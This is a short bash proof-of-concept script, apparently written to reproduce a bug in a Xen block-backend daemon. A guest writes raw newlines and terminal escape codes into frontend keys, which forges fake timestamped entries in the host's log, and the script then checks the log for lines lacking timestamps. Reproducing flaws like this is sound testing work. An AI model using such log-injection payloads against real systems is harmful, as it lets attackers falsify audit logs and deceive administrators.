#!/bin/bash
# A guest forges blkbackd log lines: frontend keys it owns (protocol,
# ring-page-order, multi-queue-num-queues) are quoted raw, newlines and
# escape sequences included, in blkbackd's log.  (The state key is escaped.)
# Run from anywhere; A=/path/to/built/clone (default /work/attack32).
. /tmp/attack32-repro/env.sh
newguest; adddisk $DOM memory:1M
blkfront-test script --domid $DOM --timeout 3000 --fe-key "protocol=x86_64-abi
2026-12-07T06:00:00.000000+00:00 blkbackd: vbd 99/51712: InitWait -> Connected (FORGED by guest $DOM) $(printf '\033[2J')" /dev/null >/dev/null 2>&1
newguest; adddisk $DOM memory:1M
blkfront-test script --domid $DOM --timeout 3000 --fe-key "ring-page-order=1
FORGED2 (no timestamp)" /dev/null >/dev/null 2>&1
sleep 0.5
echo "---- blkbackd log (cat -A) ----"; cat -A $W/blkbackd.log | grep -v 'serving\|I/O engine'
echo "---- lines not starting with a timestamp (blkbackd(8) --log-file: every line starts with one) ----"
grep -avE '^[0-9]{4}-[0-9]{2}-[0-9]{2}T' $W/blkbackd.log | cat -A
teardown; rm -rf $W
